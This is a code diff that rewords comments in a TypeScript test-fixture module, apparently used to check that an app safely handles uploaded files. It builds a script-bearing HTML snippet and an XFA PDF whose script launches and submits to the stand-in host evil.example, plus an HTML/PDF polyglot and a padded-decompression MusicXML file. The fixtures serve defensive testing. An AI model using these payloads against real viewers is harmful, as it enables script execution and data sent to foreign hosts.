@@ -1,15 +1,15 @@
 import { zipSync } from 'fflate'
 import { pdfOf, plainPdf } from './plain-pdf'
 
-/** A page of another origin. A request to it shows that a file has acted. */
+/** Another origin. A request to it proves that a file has run code. */
 const FOREIGN = 'https://evil.example'
 
-/** Markup that opens a dialog and sends a request when a browser reads it as HTML. */
+/** Markup that opens a dialog and sends a request if a browser parses it as HTML. */
 export const HOSTILE_MARKUP = `<html><img src="${FOREIGN}/image"><script>alert(1)</script></html>`
 
 /**
- * Returns a PDF of one page that runs JavaScript and opens an address when it opens. A click anywhere on the page starts a
- * program or opens an address. Its form is XFA with a script.
+ * Returns a PDF of one page that runs JavaScript and opens an address when it opens. A click on the page starts
+ * a program or opens an address. Its form is XFA with a script.
  */
 export function hostilePdf(): Buffer {
   const script = `app.alert('open'); app.launchURL('${FOREIGN}/script', true); this.submitForm('${FOREIGN}/form')`
@@ -47,12 +47,12 @@ function xfaForm(script: string): string {
   )
 }
 
-/** Returns a file that is a page of HTML with a script, and a PDF whose header comes later. */
+/** Returns a file that begins as an HTML page with a script, and has a PDF header later. */
 export function pdfBehindHtml(): Buffer {
   return Buffer.concat([Buffer.from(HOSTILE_MARKUP, 'latin1'), plainPdf('Polyglot', 1)])
 }
 
-/** Returns compressed MusicXML of one rest and of spaces, which unpacks to this number of bytes. */
+/** Returns compressed MusicXML that contains one rest and spaces, and unpacks to `bytes` bytes. */
 export function paddedMusicXml(bytes: number): Buffer {
   const container = '<container><rootfiles><rootfile full-path="music.xml"/></rootfiles></container>'
   const music = Buffer.alloc(bytes, ' ')
